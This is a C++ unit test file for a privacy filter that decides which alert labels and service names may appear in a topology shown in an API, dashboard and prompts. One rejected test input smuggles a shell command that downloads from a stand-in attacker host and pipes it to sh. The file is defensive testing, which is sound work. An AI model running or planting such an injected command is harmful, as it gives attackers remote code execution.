// What an alert label may put into the topology that the API, the dashboard and prompts show.
#include "awoooi/analysis/health.h"

#include "awoooi/privacy/shield.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace awoooi::analysis {
namespace {

std::unique_ptr<privacy::Shield> MakeShield() {
  auto shield = privacy::Shield::Create(privacy::ShieldConfig{});
  EXPECT_TRUE(shield.ok()) << shield.status();
  return std::move(*shield);
}

TEST(ShareableServiceName, PlainServiceIdentifiersAreShareable) {
  auto shield = MakeShield();
  EXPECT_TRUE(ShareableServiceName("checkout", *shield));
  EXPECT_TRUE(ShareableServiceName("payments-api", *shield));
  EXPECT_TRUE(ShareableServiceName("redis_cache.v2", *shield));
}

TEST(ShareableServiceName, AddressesMailAndOddTextAreNot) {
  auto shield = MakeShield();
  EXPECT_FALSE(ShareableServiceName("10.20.3.14", *shield));
  EXPECT_FALSE(ShareableServiceName("alice@example.com", *shield));
  EXPECT_FALSE(ShareableServiceName("", *shield));
  EXPECT_FALSE(ShareableServiceName("-leading-dash", *shield));
  EXPECT_FALSE(ShareableServiceName("two words", *shield));
  EXPECT_FALSE(ShareableServiceName("x; curl http://evil.example/p|sh", *shield));
  EXPECT_FALSE(ShareableServiceName(std::string(254, 'a'), *shield));
}

TEST(ShareableEdgeLabels, KeepsOnlyShareablePartsOfTheLabelsTheRuleReads) {
  auto shield = MakeShield();
  LabelSet labels = {{"depends_on", "db, 10.20.3.14 ,cache,bob@corp.example"},
                     {"upstream", "192.168.1.9"},
                     {"team", "payments"}};
  LabelSet kept = ShareableEdgeLabels(labels, {"depends_on", "upstream", "absent"}, *shield);
  EXPECT_THAT(kept, ::testing::ElementsAre(::testing::Pair("depends_on", "db,cache")));
}

}  // namespace
}  // namespace awoooi::analysis
